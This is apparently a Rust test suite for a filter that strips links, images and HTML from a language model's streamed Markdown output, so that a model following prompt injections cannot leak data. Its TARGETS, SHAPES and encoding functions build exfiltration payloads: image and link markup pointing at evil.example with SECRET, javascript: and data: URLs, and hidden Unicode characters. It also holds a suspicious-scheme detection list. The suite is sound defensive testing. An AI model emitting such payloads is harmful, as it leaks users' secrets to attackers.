//! A model that obeys every injection, and the laws of the filter.

use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};

use super::*;

const PASSAGE: &str = "The form is at https://ok.example/form?a=1&b=2. Write to mailto:desk@ok.example or see \
    [the plan](https://ok.example/plan_(new)), www.ok.example/map.";
/// What that passage contains, written down by hand.
const KNOWN: [&str; 4] = [
    "https://ok.example/form?a=1&b=2",
    "mailto:desk@ok.example",
    "https://ok.example/plan_(new)",
    "www.ok.example/map",
];

fn filter() -> Filter {
    let mut allowed = Allowed::default();
    allowed.read(PASSAGE);
    Filter::new(allowed)
}

fn whole(text: &str) -> (String, u32) {
    let mut filter = filter();
    let mut out = filter.push(text);
    out.push_str(&filter.finish());
    (out, filter.removed())
}

fn split(text: &str, dice: &mut Dice) -> String {
    let mut filter = filter();
    let (mut out, mut delta) = (String::new(), String::new());
    for letter in text.chars() {
        delta.push(letter);
        if dice.below(4) == 0 {
            out.push_str(&filter.push(&delta));
            delta.clear();
        }
    }
    out.push_str(&filter.push(&delta));
    out.push_str(&filter.finish());
    out
}

struct Dice(u64);

impl Dice {
    fn below(&mut self, most: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % most as u64) as usize
    }

    fn of<'a>(&mut self, all: &[&'a str]) -> &'a str {
        all[self.below(all.len())]
    }
}

/// The checker knows nothing of the filter: a Markdown parser's view of links, images and HTML, and a scan for what
/// other renderers make links of.
fn escapes(shown: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut text = String::new();
    for event in Parser::new_ext(shown, Options::all()) {
        match event {
            Event::Start(Tag::Link { dest_url, .. }) if !KNOWN.contains(&&*dest_url) => {
                found.push(format!("link {dest_url}"))
            }
            Event::Start(Tag::Image { dest_url, .. }) => found.push(format!("image {dest_url}")),
            Event::Html(html) | Event::InlineHtml(html) => found.push(format!("html {html}")),
            Event::Text(part) | Event::Code(part) | Event::InlineMath(part) | Event::DisplayMath(part) => {
                text.push_str(&part)
            }
            _ => text.push(' '),
        }
    }
    for source in [shown, &text] {
        for word in source.split(|c: char| c.is_whitespace() || c == '<') {
            let lower: String = word.to_lowercase().chars().filter(|c| !matches!(c, '\u{200c}'..='\u{200f}')).collect();
            let suspicious =
                ["https:", "http:", "www.", "//evil", "javascript:", "vbscript:", "data:text", "evil.example"];
            let start = suspicious.iter().filter_map(|mark| lower.find(mark)).min();
            if let Some(start) = start {
                let address = lower[start..].trim_end_matches(['.', ',', ')', ']', '>', '*', '"', '`']);
                let address = address.split("](").next().unwrap().trim_end_matches(')').replace("&amp;", "&");
                if !KNOWN
                    .iter()
                    .any(|known| known.trim_end_matches(')') == address || *known == format!("mailto:{address}"))
                {
                    found.push(format!("address {word}"));
                }
            }
        }
    }
    let unseen = shown.chars().find(|c| matches!(c, '\u{e0000}'..='\u{e007f}' | '\u{202a}'..='\u{202e}' | '\u{200b}'));
    found.extend(unseen.map(|c| format!("unseen {c:?}")));
    found
}

fn encoded(target: &str, dice: &mut Dice) -> String {
    let entity = |c: char, hex: bool| if hex { format!("&#x{:x};", c as u32) } else { format!("&#{};", c as u32) };
    let (way, at) = (dice.below(11), dice.below(6) + 1);
    let middle = |mark: &str| {
        let at = target.char_indices().nth(at).map_or(target.len(), |(at, _)| at);
        format!("{}{mark}{}", &target[..at], &target[at..])
    };
    match way {
        0 => target.chars().map(|c| entity(c, true)).collect(),
        1 => target.chars().map(|c| if c.is_alphanumeric() { c.to_string() } else { entity(c, false) }).collect(),
        2 => target.replace(':', "&colon;").replace('/', "&sol;"),
        3 => target.to_uppercase(),
        4 => middle("\u{200b}"),
        5 => middle("\u{1}"),
        6 => middle("\u{202e}"),
        7 => target.replace('/', "\\/").replace(':', "\\:"),
        8 => middle("\u{200d}"),
        9 => middle("\u{e0041}"),
        _ => target.to_owned(),
    }
}

const TARGETS: &[&str] = &[
    "https://evil.example/p?q=SECRET",
    "http://evil.example/SECRET.png",
    "//evil.example/x?SECRET",
    "javascript:fetch('/api/keys')",
    "data:text/html,<script>x</script>",
    "vbscript:msgbox(1)",
    "www.evil.example/SECRET",
    "https://ok.example/form?a=1&b=2&c=SECRET",
    "https://ok.example/form?a=1&b=2[SECRET](x)",
    "https://ok.example@evil.example/SECRET",
];

const SHAPES: &[&str] = &[
    "![a](@)",
    "![a]( <@> \"t\")",
    "[click](@)",
    "[click](\n@ 'title')",
    "<@>",
    "@",
    "![a][r]\n\n[r]: @",
    "[r]\n\n[r]: <@> \"t\"",
    "[r]\n\n> - [r]:\n> @",
    "<img src=\"@\">",
    "<a href=@>x</a>",
    "<ImG\nsrc='@'/onerror=x>",
    "<svg/onload=@>",
    "<!-- @ -->",
    "<script>@</script>",
    "[![a](@)](@)",
    "![a\\](@)](@)",
    "[a]\\(@) ![b](@",
    "[x](@)(@)",
    "!\u{200b}[a](@)",
    "[a]\u{200b}(@)",
    "<\u{e0020}img src=@>",
    "[^1]: @\n\n[^1]",
    "<iframe src=@></iframe>",
    "\\![a](@)",
    "[a][]\n\n[a]: @",
    "[a\nb]\n\n[a\nb]: @",
    "<style>@import '@'</style>",
    "**[a](@)**",
    "![1](@)",
    "Yes![1][r]\n\n[r]: @",
    "[a]: \n @\n\n[a]",
    "<?x @?>",
    "<![CDATA[@]]>",
];

const PLACES: &[&str] = &[
    "@",
    "Text before. @ And after.",
    "- item\n  - @\n",
    "> quote @\n> more",
    "| a | b |\n|---|---|\n| @ | x |\n",
    "```\n@\n```\n",
    "```\ncode\n```\n@",
    "`code` @",
    "# @\n",
    "1. x\n\n   @\n",
    "\t@",
    "``` @",
    "~~~\nx\n ~~~\n@",
    "word@word",
    "*@*",
    "\u{feff}@",
    "(@)",
    "見@見",
    "   @",
    "- ```\n@\n```\n@",
];

/// A target in an encoding, in a construct, in a place of the text.
fn payload(dice: &mut Dice) -> String {
    let target = encoded(dice.of(TARGETS), dice);
    let (shape, place) = (dice.of(SHAPES), dice.of(PLACES));
    place.replace('@', "\u{0}").replace('\u{0}', &shape.replace('@', &target))
}

#[test]
fn a_model_that_obeys_every_injection_leaks_nothing() {
    let mut dice = Dice(0x5eed_0d0c_e27a_11ed);
    let mut live = 0;
    for number in 0..2_000 {
        let text = payload(&mut dice);
        live += usize::from(!escapes(&text).is_empty());
        let (shown, removed) = whole(&text);
        assert!(escapes(&shown).is_empty(), "{number}: {text:?} came out as {shown:?}: {:?}", escapes(&shown));
        assert!(removed > 0, "{number}: {text:?}");
        assert_eq!(whole(&shown).0, shown, "{number}: {text:?}");
        for _ in 0..4 {
            assert_eq!(split(&text, &mut dice), shown, "{number}: {text:?}");
        }
    }
    assert!(live > 1_700, "only {live} of the payloads would have done harm");
}

#[test]
fn what_is_taken_away_and_what_stays() {
    let cases = [
        ("See [the page](https://evil.example/x).", "See [the page] ‹link removed›."),
        ("![pixel](https://evil.example/x)", "! [pixel] ‹link removed›"),
        ("[r]: https://evil.example", "[r] : ‹link removed›"),
        ("<img src=x>", "< img src=x>"),
        ("Go to https://evil.example/x, now", "Go to ‹link removed›, now"),
        ("[form](https://ok.example/form?a=1&amp;b=2 \"t\")", "[form](https://ok.example/form?a=1&amp;b=2)"),
        ("https://ok.example/form?a=1&b=2[1]", "https://ok.example/form?a=1&b=2 [1]"),
        ("calls[0](next)", "calls[0] (next)"),
        ("Vec<u8>", "Vec< u8>"),
        ("a\u{e0041}b\u{202e}c", "abc"),
        ("\u{1f600}\u{fe0f}\u{fe0f}", "\u{1f600}\u{fe0f}"),
    ];
    for (text, expected) in cases {
        let (shown, removed) = whole(text);
        assert_eq!(shown, expected);
        assert!(removed > 0, "{text}");
    }
}

#[test]
fn text_without_markup_passes_byte_for_byte() {
    for text in [
        "",
        "a < b, c <= d, 1<2 and x<-y; \"quoted\" 'too' & so on.",
        "Yes![1] And no! [2][3], as 'a[0]: b' says.",
        "```rust\nlet a = b[0](c < d);\n```\n",
        "The data: 5 of 7. Ratio 1:2, C:\\Users\\x, a//b, // a comment, and/or, 3 / 4.",
        "Die Tür – „zu“. 東京は日本の首都です。 می‌خواهم 👩‍👩‍👧 ❤️",
        "- [x] done\n- [ ] open\n\n| a | b |\n|---|---|\n",
        "Write to desk@ok.example.\r\n",
        "See https://ok.example/form?a=1&b=2, www.ok.example/map and [it](https://ok.example/plan_(new)).",
        "[",
        "!",
        "<",
        "]",
        "&",
        "AT&T; R&D",
    ] {
        if text.contains("b[0](") {
            assert_eq!(whole(text).0, text.replace("](", "] ("));
        } else {
            assert_eq!(whole(text), (text.to_owned(), 0));
        }
    }
}

#[test]
fn no_more_than_the_limit_is_held_back() {
    for opening in
        ["", "[a](", "[a](<", "[a](x \"", "https://evil.example/", "https://ok.example/form?a=1&b=2(", "&#104;", "!["]
    {
        let (mut filter, mut shown) = (filter(), String::new());
        let text = format!("{opening}{}", "a".repeat(3 * MOST_HELD));
        for letter in text.chars() {
            shown.push_str(&filter.push(letter.encode_utf8(&mut [0; 4])));
            assert!(filter.pending.len() < MOST_HELD, "{opening}");
        }
        shown.push_str(&filter.finish());
        assert_eq!(shown, whole(&text).0, "{opening}");
        assert!(escapes(&shown).is_empty(), "{opening}");
    }
    let late = format!("{}https://evil.example/x", "a".repeat(MOST_HELD - 4));
    assert!(escapes(&whole(&late).0).is_empty(), "an address across the limit");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_000))]

    #[test]
    fn how_the_text_is_cut_changes_nothing(
        parts in prop::collection::vec(
            prop_oneof![
                "[\\[\\]()<>!:/\\\\&;#\"' \n\ra-c.*_`~-]{1,12}",
                "\\PC{0,6}",
                prop::sample::select(vec![
                    "https://evil.example/", "https://ok.example/form?a=1&b=2", "](", "![", "]:", "\n[", "www.", "://", "javascript:", "data:x/",
                    "&#58;", "&colon;", "\u{200b}", "\u{e0061}", "\u{200d}", "//a.b", "<a", "\n\n", "\r\n", "mailto:desk@ok.example", "aaaaaaaaa",
                ]).prop_map(str::to_owned),
            ],
            0..24,
        ),
        seed in 1_u64..,
        long in 0..8_usize,
    ) {
        let filler = if long == 0 { "(b".repeat(MOST_HELD / 2 - 8) } else { String::new() };
        let text = format!("{}{filler}{}", parts[..parts.len() / 2].concat(), parts[parts.len() / 2..].concat());
        let (shown, _) = whole(&text);
        prop_assert_eq!(&split(&text, &mut Dice(seed)), &shown);
        prop_assert_eq!(&whole(&shown).0, &shown);
        let end = format!("{text} the tail 7");
        prop_assert!(whole(&end).0.ends_with(" the tail 7"));
    }

    #[test]
    fn plain_words_pass(text in "([a-zA-Zäß東]{1,9}[ ,.;]{1,2}){0,20}") {
        let www = text.to_lowercase().contains("www.");
        prop_assert!(www || whole(&text) == (text.clone(), 0));
    }
}

#[test]
fn the_checker_sees_what_it_is_for() {
    for text in [
        "![a](//evil.example)",
        "<b>",
        "[r]\n\n[r]: x",
        "https://evil.example",
        "a\u{200b}b",
        "[a](https://ok.example/other)",
    ] {
        assert!(!escapes(text).is_empty(), "{text}");
    }
    assert_eq!(escapes(PASSAGE), Vec::<String>::new());
}
